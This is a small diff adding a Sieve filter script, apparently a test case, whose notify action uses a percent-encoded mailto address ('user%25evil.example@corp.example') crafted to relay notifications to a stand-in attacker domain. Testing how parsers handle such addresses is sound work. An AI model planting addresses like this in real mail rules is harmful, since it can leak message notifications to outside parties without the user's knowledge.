@@ -1,0 +1,2 @@
+require "enotify";
+notify "mailto:user%25evil.example@corp.example";
